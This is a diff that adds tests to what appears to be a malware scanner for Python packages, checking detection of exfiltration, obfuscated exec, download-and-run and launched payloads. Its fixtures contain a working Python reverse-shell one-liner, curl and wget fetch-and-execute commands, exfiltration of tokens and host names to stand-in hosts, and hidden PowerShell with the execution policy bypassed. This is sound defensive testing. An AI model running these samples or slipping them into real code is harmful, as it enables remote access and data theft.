@@ -140,3 +140,80 @@ test('a second Python started with inline code on import, and a download made ex
   const fetch = 'import os\ndef go():\n    os.system("wget -qO /tmp/t https://files.example/t && chmod +x /tmp/t")\n';
   assert.equal(ruleOf(findings(fetch), 'download-execute')?.severity, 'high', 'even when only called');
 });
+
+test('the host name sent on import is high even when the destination is built at run time', () => {
+  const source = [
+    'import socket, requests, sys',
+    'BASE = sys.argv[0]',
+    'requests.get("http://" + BASE + ".collector.example/?h=" + socket.gethostname())',
+  ].join('\n');
+  const flow = ruleOf(findings(source, 'demo/__init__.py'), 'exfiltration');
+  assert.equal(flow?.severity, 'high', 'runs on import');
+  const called = `def report():\n    ${source.split('\n')[2]}\n`;
+  assert.notEqual(
+    ruleOf(findings(`${source.split('\n')[0]}\nimport sys\nBASE = sys.argv[0]\n${called}`), 'exfiltration')?.severity,
+    'high',
+  );
+});
+
+test('outbound logic through logging handlers, a browser given data, the C library and git push is egress', () => {
+  const egress = (source: string) => analyzePythonFile('demo/mod.py', new TextEncoder().encode(source))[0].egress;
+  assert.ok(egress('import logging.handlers\nh = logging.handlers.SocketHandler("logs.example", 9020)\n'));
+  assert.ok(egress('import logging.handlers\nh = logging.handlers.HTTPHandler("logs.example", "/in")\n'));
+  assert.ok(egress('import webbrowser, os\nwebbrowser.open("https://c.example/?k=" + os.environ["TOKEN"])\n'));
+  assert.ok(!egress('import webbrowser\nwebbrowser.open("https://docs.example/manual")\n'), 'a fixed page');
+  assert.ok(egress('import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.connect(3, None, 16)\n'));
+  assert.ok(egress('import os\nos.system("git push https://git.example/x.git HEAD")\n'));
+  assert.ok(!egress('import os\nos.system("git describe --tags")\n'));
+});
+
+test('exec of a string built by a XOR loop over a long constant, through an alias of exec, is a home-made obfuscator', () => {
+  const cipher = 'QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiop';
+  const source = [
+    'show = exec',
+    `DATA = "${cipher}"`,
+    'KEY = "7356916310649508740029639792852837870915"',
+    'out = ""',
+    'for i in range(len(DATA)):',
+    '    c = DATA[i]',
+    '    k = KEY[i % len(KEY)]',
+    '    out += chr(ord(c) ^ ord(k))',
+    'show(out)',
+  ].join('\n');
+  const list = findings(source);
+  assert.equal(ruleOf(list, 'exec-custom-decoder')?.severity, 'high', 'runs on import');
+  assert.equal(ruleOf(list, 'dynamic-code-exec'), undefined, 'out is not the constant ""');
+});
+
+test('the code of a python -c command line is analysed as a file, with the trigger of the call that runs it', () => {
+  const shell =
+    "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])";
+  const source = `import os\ndef serve():\n    os.system("python3 -c \\"${shell}\\"")\n`;
+  const reports = analyzePythonFile('demo/main.py', new TextEncoder().encode(source));
+  const inline = reports.find((report) => report.path === 'demo/main.py#decoded-1');
+  assert.ok(inline, 'the inline code is a virtual file');
+  assert.ok(inline.egress, 'it connects out');
+  assert.ok(
+    inline.findings.some((f) => f.severity === 'high' || f.severity === 'critical'),
+    `a reverse shell is high: ${inline.findings.map((f) => `${f.rule}:${f.severity}`).join(', ')}`,
+  );
+});
+
+test('PowerShell told to bypass the execution policy and hide its window is high even when only called', () => {
+  const source =
+    'import subprocess\ndef go(p):\n    subprocess.Popen(["powershell", "-W", "Hidden", "-Ep", "Bypass", "-File", p + "/t.ps1"])\n';
+  assert.equal(ruleOf(findings(source), 'process-launch-payload')?.severity, 'high');
+  const visible = 'import subprocess\ndef go(p):\n    subprocess.run(["powershell", "-File", p + "/build.ps1"])\n';
+  assert.equal(ruleOf(findings(visible), 'process-launch-payload')?.severity, 'low');
+});
+
+test('a download then run in one command line, a bare shell started on import, and a Telegram bot library are caught', () => {
+  const fetchRun =
+    'import os\ndef go():\n    os.system("curl -sL https://paste.example/raw/x -o %TEMP%\\\\h.py && python %TEMP%\\\\h.py")\n';
+  assert.equal(ruleOf(findings(fetchRun), 'download-execute')?.severity, 'high');
+  const shell = 'import subprocess\nsubprocess.call("/bin/sh")\n';
+  assert.equal(ruleOf(findings(shell, 'demo/main.py'), 'process-launch-payload')?.severity, 'high');
+  const bot =
+    'import telebot\nbot = telebot.TeleBot(TOKEN)\ndef leak(path):\n    bot.send_document(1, open(path, "rb"))\n';
+  assert.ok(findings(bot).some((f) => f.rule === 'egress-network-call' && /send_document/.test(f.message)));
+});
